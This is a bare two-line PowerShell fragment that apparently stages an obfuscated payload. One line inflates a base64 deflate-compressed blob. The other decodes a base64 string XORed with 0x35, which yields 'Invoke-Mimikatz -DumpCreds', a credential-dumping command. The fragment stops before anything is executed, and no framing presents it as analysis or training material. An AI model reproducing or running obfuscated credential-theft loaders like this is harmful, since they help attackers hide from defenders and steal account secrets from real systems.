$d = New-Object IO.Compression.DeflateStream([IO.MemoryStream]::new([Convert]::FromBase64String('Cy5JLCrRDc5JTS1QMLRW0FCvNqytNqhVV9BNU1B3zMnJT1bXUQ/LLCopTcxR1wQA')), 0)
$b = [Convert]::FromBase64String('fFtDWl5QGHhcWFxeVEFPFRhxQFhFdkdQUUY='); for($i=0;$i -lt $b.Count;$i++){ $b[$i] = $b[$i] -bxor 0x35 }
